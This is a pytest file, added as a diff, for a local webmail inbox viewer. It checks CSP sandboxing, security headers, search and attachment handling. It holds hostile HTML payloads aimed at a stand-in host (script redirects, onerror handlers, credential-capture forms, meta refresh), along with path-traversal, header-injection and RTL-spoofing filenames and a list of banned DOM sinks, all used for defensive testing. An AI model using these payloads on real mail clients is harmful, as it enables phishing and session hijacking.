@@ -1,0 +1,454 @@
+"""Facts about the inbox's page, as a browser meets it, with mails that mean harm."""
+
+import json
+import re
+import smtplib
+from email.message import EmailMessage
+from pathlib import Path
+from urllib.parse import quote
+from urllib.request import urlopen
+
+import pytest
+from werkzeug.test import Client
+
+from confirmlab import display, webmail
+from confirmlab.mailbox import Inbox
+from confirmlab.webmail import Webmail
+
+LINK = "http://127.0.0.1:5000/auth/confirm/aaa.bbb.ccc"
+HOSTILE = """
+<script>parent.location = "http://evil.example/"</script>
+<img src="http://evil.example/pixel.png" onerror="alert(1)"><svg onload="alert(1)"></svg>
+<a href="javascript:alert(1)">a</a> <meta http-equiv="refresh" content="0;url=http://evil.example">
+<base href="http://evil.example/"> <form action="http://evil.example/"><input name="password">
+<style>@import url(http://evil.example/x.css); p { background: url(http://evil.example/y) }</style>
+<iframe src="http://evil.example/"></iframe><a href="http://evil.example/" target="_top" rel=opener>
+"""
+
+
+def opens(written):
+    return (
+        written.replace("http://127.0.0.1:5000", "/proxy/absolute/5000")
+        if ":5000" in written
+        else None
+    )
+
+
+@pytest.fixture
+def inbox(tmp_path):
+    made = Inbox(tmp_path / "mail", opens=opens)
+    made.maildir.make()
+    return made
+
+
+@pytest.fixture
+def browser(inbox):
+    return Client(Webmail(inbox))
+
+
+def put(
+    inbox, subject="Hello", text=f"See {LINK} now.\n", html=None, files=(), to="ann@pigeon.test"
+):
+    message = EmailMessage()
+    message["From"], message["To"], message["Subject"] = "club@pigeon.test", to, subject
+    message.set_content(text)
+    if html:
+        message.add_alternative(html, subtype="html")
+    for name, kind, data in files:
+        maintype, _, subtype = kind.partition("/")
+        message.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
+    return inbox.maildir.add(message.as_bytes())
+
+
+def listed(browser, **asked):
+    return browser.get("/mails", query_string=asked).get_json()
+
+
+def test_mails_are_listed_newest_first(inbox, browser):
+    """The list names each mail, whether it was opened, and how many there are."""
+    put(inbox, "first")
+    last = put(inbox, "last", files=[("a.txt", "text/plain", b"x")])
+    answer = listed(browser)
+
+    assert [mail["subject"] for mail in answer["mails"]] == ["last", "first"]
+    assert [mail["attached"] for mail in answer["mails"]] == [1, 0]
+    assert (answer["count"], answer["unread"], answer["newest"]) == (2, 2, last)
+
+
+def test_nothing_new_is_said_in_no_words(inbox, browser):
+    """Who knows the present version gets an empty answer, until something changes."""
+    name = put(inbox)
+    version = listed(browser)["version"]
+    assert browser.get("/mails", query_string={"known": version}).status_code == 204
+
+    inbox.slow(1)
+    assert listed(browser, known=version)["notes"] == ["This inbox takes 1 s over each mail."]
+    version = listed(browser)["version"]
+    browser.post(f"/mails/{name}/seen")
+    assert listed(browser, known=version)["unread"] == 0
+
+
+def test_a_look_at_what_is_known_reads_no_mail(inbox, browser, monkeypatch):
+    """Asking for news of a full inbox opens no file."""
+    for number in range(5):
+        put(inbox, str(number))
+    version = listed(browser)["version"]
+    monkeypatch.setattr(type(inbox.maildir), "read", None)
+    monkeypatch.setattr(type(inbox.maildir), "entries", None)
+
+    assert browser.get("/mails", query_string={"known": version}).status_code == 204
+
+
+@pytest.mark.parametrize(
+    "words", ["CLUB@", "ann@", "zwiebel", "coo coo", "only in html", " hello "]
+)
+def test_search_looks_everywhere(inbox, browser, words):
+    """A search finds sender, recipient, subject, text, and HTML where there is no text."""
+    put(inbox, "Hello Zwiebel", text="Coo COO\n")
+    message = (
+        b"From: club@x\nTo: ann@x\nSubject: hello zwiebel coo coo\nContent-Type: text/html\n\n"
+    )
+    inbox.maildir.add(message + b"<p>Only in <b></b>&#72;TML</p>")
+    put(inbox, "Other", text="Nothing.\n", to="bob@pigeon.test")
+    expected = 1 if words == "only in html" else 3 if words == "CLUB@" else 2
+
+    answer = listed(browser, words=words if words != "only in html" else "only in")
+    assert answer["found"] == len(answer["mails"]) == expected
+    assert answer["count"] == 3
+
+
+def test_a_search_may_find_nothing(inbox, browser):
+    """Words that stand nowhere find no mail, and what the search is made of does no harm."""
+    put(inbox)
+    for words in ("nowhere", ".*", "%", "\x00", "x" * 5000):
+        assert listed(browser, words=words)["found"] == 0
+
+
+def test_the_list_comes_in_pieces(inbox, browser):
+    """A long list comes as far as asked for, and says how long it is."""
+    for number in range(5):
+        put(inbox, str(number))
+    answer = listed(browser, count=2)
+
+    assert (len(answer["mails"]), answer["found"]) == (2, 5)
+    assert len(listed(browser, count="many")["mails"]) == 5
+
+
+def test_a_mail_is_shown_in_all_its_parts(inbox, browser):
+    """One answer holds text, source, headers, links and attachments of a mail."""
+    name = put(inbox, html="<p>x</p>", files=[("loft plan.pdf", "application/pdf", b"%PDF")])
+    mail = browser.get(f"/mails/{name}").get_json()
+
+    assert mail["text"].startswith("See http") and "boundary=" in mail["source"]
+    assert ["Subject", "Hello"] in mail["headers"]
+    assert mail["files"] == [{"name": "loft plan.pdf", "kind": "application/pdf", "bytes": 4}]
+    assert (mail["html"], mail["pictured"]) == (True, True)
+
+
+def test_links_say_where_they_lead(inbox, browser):
+    """Each link is given as written and as it opens here, with where it leads."""
+    name = put(inbox, text=f"{LINK}\nhttps://example.com/x\nhttp://127.0.0.1:1/\n")
+    links = browser.get(f"/mails/{name}").get_json()["links"]
+
+    assert [link["opens"] for link in links] == [
+        opens(LINK),
+        "https://example.com/x",
+        "http://127.0.0.1:1/",
+    ]
+    assert [link["leads"].partition(",")[0] for link in links] == [
+        "your app",
+        "another site: example.com",
+        "port 1 of this machine",
+    ]
+
+
+def test_opening_marks_and_takes_back(inbox, browser):
+    """A mail can be marked as read, and as unread again."""
+    name = put(inbox)
+    browser.post(f"/mails/{name}/seen")
+    assert [one.unread for one in inbox.maildir.entries()] == [False]
+
+    browser.post(f"/mails/{name}/unseen")
+    assert [one.unread for one in inbox.maildir.entries()] == [True]
+
+
+def test_reading_by_code_marks_nothing(inbox):
+    """What code reads stays unread: nobody has seen it."""
+    put(inbox)
+    assert inbox.latest.subject == "Hello"
+
+    assert all(one.unread for one in inbox.maildir.entries())
+
+
+def test_deleting(inbox, browser):
+    """One mail can be deleted, or all up to the newest that was seen."""
+    first, second, third = (put(inbox, str(number)) for number in range(3))
+    browser.post(f"/mails/{second}/remove")
+    assert [mail.subject for mail in inbox] == ["2", "0"]
+
+    late = put(inbox, "late")
+    browser.post(f"/mails/{third}/clear")
+    assert [mail.id for mail in inbox] == [late]
+
+
+@pytest.mark.parametrize("path", ["", "/page", "/files/0", "/whole"])
+@pytest.mark.parametrize("name", ["no-such", "..%2f..%2fpage.json", "%00", "new", "x" * 3000])
+def test_an_unknown_mail_is_not_found(inbox, browser, name, path):
+    """Ids are looked up in the list and never used as paths."""
+    put(inbox)
+
+    assert browser.get(f"/mails/{name}{path}").status_code == 404
+
+
+@pytest.mark.parametrize("path", ["/secret", "/inbox.py", "/..%2fwebmail.py", "/mails/x/y"])
+def test_there_is_nothing_else(browser, path):
+    """Only the page and its own files are served."""
+    assert browser.get(path).status_code == 404
+
+
+@pytest.mark.parametrize("action", ["seen", "unseen", "remove", "clear"])
+def test_looking_changes_nothing(inbox, browser, action):
+    """No link that somebody follows can delete a mail or mark it."""
+    name = put(inbox)
+
+    assert browser.get(f"/mails/{name}/{action}").status_code == 405
+    assert [one.unread for one in inbox.maildir.entries()] == [True]
+
+
+def test_every_answer_is_guarded(inbox, browser):
+    """Each answer forbids to be stored, sniffed, framed by others, or named to other sites."""
+    name = put(inbox, html="<p>x</p>", files=[("a", "text/html", b"x")])
+    paths = ["/", "/inbox.css", "/inbox.js", "/mails", "/nothing", f"/mails/{name}"]
+    paths += [f"/mails/{name}/{rest}" for rest in ("page", "files/0", "whole")]
+    for path in paths:
+        headers = browser.get(path).headers
+        assert headers["Content-Security-Policy"].startswith("default-src 'none'")
+        assert re.search("frame-ancestors '(none|self)'", headers["Content-Security-Policy"])
+        assert headers["Cache-Control"] == "no-store"
+        assert headers["Referrer-Policy"] == "no-referrer"
+        assert headers["X-Content-Type-Options"] == "nosniff"
+
+
+def test_the_page_runs_its_own_script_only(browser):
+    """The page's policy knows one nonce, a new one each time, and nothing inline."""
+    answers = [browser.get("/") for _ in range(2)]
+    nonces = [
+        re.search("script-src 'nonce-([^']+)';", a.headers["Content-Security-Policy"])[1]
+        for a in answers
+    ]
+    page = answers[0].get_data(as_text=True)
+
+    assert nonces[0] != nonces[1] and re.findall("<script[^>]*>", page) == [
+        f'<script src="inbox.js" defer nonce="{nonces[0]}">'
+    ]
+    assert "unsafe-inline" not in answers[0].headers["Content-Security-Policy"]
+    assert not re.search(r"\s(style|on\w+)=|<style|https?://(?!www\.w3\.org)", page)
+
+
+def test_the_page_says_how_much_is_kept(browser):
+    """The cap stands on the page, and the language of the page in its head."""
+    page = browser.get("/").get_data(as_text=True)
+
+    assert "500 mails or 20 MB; the oldest go first" in page
+    assert '<html lang="en">' in page
+
+
+def test_the_script_makes_no_markup():
+    """No word of a mail can become markup: the script knows no way to make any."""
+    script = Path(webmail.__file__).with_name("static").joinpath("inbox.js").read_text()
+
+    for way in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "srcdoc", "eval"):
+        assert way not in script
+
+
+def test_a_hostile_mail_is_caged(inbox, browser):
+    """The HTML of a mail comes with a policy that runs, loads, sends and leaves nothing."""
+    name = put(inbox, html=HOSTILE)
+    answer = browser.get(f"/mails/{name}/page")
+    rules = dict(
+        rule.strip().partition(" ")[::2]
+        for rule in answer.headers["Content-Security-Policy"].split(";")
+    )
+
+    assert rules == {
+        "default-src": "'none'",
+        "img-src": "data:",
+        "style-src": "'unsafe-inline'",
+        "base-uri": "'none'",
+        "form-action": "'none'",
+        "frame-ancestors": "'self'",
+        "sandbox": "allow-popups allow-popups-to-escape-sandbox",
+    }
+    # Of two attributes of one name the first counts.
+    assert (
+        '<a target="_blank" rel="noopener noreferrer" href="http://evil.example/" target="_top"'
+        in (answer.get_data(as_text=True))
+    )
+
+
+def test_links_in_the_html_open_here(inbox, browser):
+    """A link in the HTML leads to where it opens here."""
+    name = put(inbox, html=f'<A HREF="{LINK}">confirm</A>')
+
+    assert f'HREF="{opens(LINK)}"' in browser.get(f"/mails/{name}/page").get_data(as_text=True)
+
+
+def test_pictures_that_came_along_are_shown(inbox, browser):
+    """A picture that the mail itself brings stands in its HTML; a drawing with scripts does not."""
+    message = EmailMessage()
+    message["Subject"] = "x"
+    message.set_content("x")
+    message.add_alternative(
+        '<img src="cid:a@x"><img src="cid:b@x"><img src="cid:none">', subtype="html"
+    )
+    html = message.get_payload()[1]
+    html.add_related(b"\x89PNG", "image", "png", cid="<a@x>")
+    html.add_related(b"<svg/>", "image", "svg+xml", cid="<b@x>")
+    name = inbox.maildir.add(message.as_bytes())
+
+    page = browser.get(f"/mails/{name}/page").get_data(as_text=True)
+    assert 'src="data:image/png;base64,iVBORw=="' in page
+    assert 'src="cid:b@x"' in page and 'src="cid:none"' in page
+
+
+@pytest.mark.parametrize(
+    ("name", "saved"),
+    [
+        ("plan.pdf", "plan.pdf"),
+        ("../../etc/passwd", "passwd"),
+        ("C:\\Windows\\x.exe", "x.exe"),
+        ('a"; filename="b.exe', "a__ filename=_b.exe"),
+        ("a\r\nSet-Cookie: x=1", "aSet-Cookie_ x=1"),
+        ("photo\u202egpj.exe", "photogpj.exe"),
+        ("Größe 😀.txt", "Größe 😀.txt"),
+        ("...", "attachment-1"),
+        ("x" * 500 + ".pdf", "x" * 80 + ".pdf"),
+    ],
+)
+def test_names_of_attachments_are_harmless(inbox, browser, name, saved):
+    """A file is saved under a name that names no folder, hides no ending and breaks no header."""
+    head = f"Content-Disposition: attachment; filename*=utf-8''{quote(name, safe='')}\n"
+    mail = inbox.maildir.add(
+        head.encode() + b"Content-Type: text/html\n\n<script>alert(1)</script>"
+    )
+    answer = browser.get(f"/mails/{mail}/files/0")
+
+    assert answer.headers["Content-Type"] == "application/octet-stream"
+    assert answer.headers["Content-Disposition"].startswith("attachment; filename")
+    assert (
+        "sandbox" in answer.headers["Content-Security-Policy"]
+        and "Set-Cookie" not in answer.headers
+    )
+    assert browser.get(f"/mails/{mail}").get_json()["files"][0]["name"] == saved
+
+
+def test_the_whole_mail_can_be_saved(inbox, browser):
+    """The mail is given byte by byte as it came, to be saved under its subject."""
+    name = put(inbox, "Hello: you / me")
+    answer = browser.get(f"/mails/{name}/whole")
+
+    assert answer.data.startswith(b"From: club@pigeon.test\n")
+    assert answer.headers["Content-Disposition"] == 'attachment; filename=" me.eml"' or (
+        ".eml" in answer.headers["Content-Disposition"]
+    )
+
+
+def test_letters_that_hide_are_written_out(inbox, browser):
+    """A subject cannot turn the letters after it around."""
+    name = put(inbox, "pay \u202ephoto")
+
+    assert browser.get(f"/mails/{name}").get_json()["subject"] == "pay \\u202ephoto"
+
+
+@pytest.mark.parametrize(
+    "raw",
+    [
+        b"",
+        bytes(range(256)),
+        b"Content-Type: multipart/mixed; boundary=x\n\n--x\n" * 200,
+        b"Content-Type: text/html; charset=no-such\n\n<p>\xff",
+        b"Subject: =?utf-8?q?" + b"=F0" * 3000,
+        b'Content-Type: text/html\n\n<a href="' + b"<" * 100_000,
+        b"Content-Type: text/html\n\n" + b"x" * 500_000,
+    ],
+)
+def test_broken_mails_are_shown_too(inbox, browser, raw):
+    """Whatever bytes a mail is made of, list, mail and search answer."""
+    name = inbox.maildir.add(raw)
+
+    assert listed(browser, words="x")["count"] == 1
+    assert browser.get(f"/mails/{name}").status_code == 200
+    assert browser.get(f"/mails/{name}/page").status_code in (200, 404)
+
+
+def test_a_mail_of_ten_megabytes(inbox, browser):
+    """A huge mail is listed and shown in part, and comes whole when it is saved."""
+    name = inbox.maildir.add(b"Subject: big\n\n" + b"coo " * 2_500_000)
+    shown = browser.get(f"/mails/{name}")
+
+    assert len(shown.data) < 1_000_000 and "… and more" in shown.get_json()["text"]
+    assert len(browser.get(f"/mails/{name}/whole").data) > 10_000_000
+    assert listed(browser, words="coo")["found"] == 1
+
+
+def test_what_goes_meanwhile_is_no_trouble(inbox, browser, monkeypatch):
+    """A mail that is deleted while it is listed breaks no list."""
+    put(inbox)
+    monkeypatch.setattr(type(inbox.maildir), "read", lambda self, entry: None)
+
+    assert listed(browser)["count"] == 1
+
+
+def test_over_http_from_smtp_to_page(inbox):
+    """A mail sent over SMTP shows up on the page that the inbox names."""
+    with inbox.start():
+        with smtplib.SMTP("127.0.0.1", inbox.port, local_hostname="localhost") as client:
+            client.sendmail("a@x", ["b@x"], b"Subject: real\r\n\r\nCoo.\r\n")
+        with urlopen(f"{inbox.page}mails", timeout=10) as answer:
+            assert json.load(answer)["mails"][0]["subject"] == "real"
+
+
+def test_the_card_frames_the_page(inbox, monkeypatch):
+    """In a notebook with a server the card holds the live page, a link to it, and itself folded."""
+    put(inbox, "Hello")
+    monkeypatch.setattr(display, "base_url", lambda: "/user/ann/")
+    monkeypatch.setattr("confirmlab.server.base_url", lambda: "/user/ann/")
+    card = display.html(inbox)
+    page = inbox.page
+    inbox.close()
+
+    assert page.startswith("/user/ann/proxy/absolute/")
+    assert f'href="{page}"' in card and f'src="{page}"' in card
+    assert "Run this cell to see the live inbox.</iframe>" in card
+    assert card.index("<details") > card.index("</iframe>")
+
+
+def test_without_a_server_the_card_is_as_ever(inbox):
+    """Without a Jupyter server there is no frame and no page."""
+    put(inbox, "Hello")
+
+    assert "<iframe" not in display.html(inbox)
+    assert not (inbox.folder / "page.json").exists()
+
+
+def test_a_page_is_resumed_only_where_there_was_one(inbox, monkeypatch):
+    """Starting the site brings a page back that was open before, and opens none by itself."""
+    monkeypatch.setattr("confirmlab.server.base_url", lambda: "/")
+    inbox.resume_page()
+    assert not (inbox.folder / "page.json").exists()
+
+    page = inbox.page
+    inbox.close()
+    again = Inbox(inbox.folder)
+    again.resume_page()
+    assert (again._host.running, again.page) == (True, page)
+    again.close()
+
+
+def test_being_away_leaves_the_page(inbox):
+    """While the mail server is away, its page is there and says so."""
+    with inbox.start():
+        page = inbox.page
+        inbox.away()
+        with urlopen(f"{page}mails", timeout=10) as answer:
+            assert json.load(answer)["notes"] == ["This inbox is away."]
